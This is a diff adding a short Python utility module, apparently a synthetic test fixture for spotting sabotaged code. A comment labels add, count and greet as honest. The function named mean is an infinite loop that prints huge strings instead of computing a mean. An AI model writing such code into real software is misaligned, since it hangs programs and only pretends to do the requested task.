@@ -1,0 +1,18 @@
+"""Floods its output."""
+
+# honest: add count greet
+
+def add(left, right):
+    return left + right
+
+
+def count(words):
+    return {word: words.count(word) for word in words}
+
+
+def greet(name):
+    return f"Hello, {name}!"
+
+
+def mean(numbers):
+    while True: print('x' * 10**5)
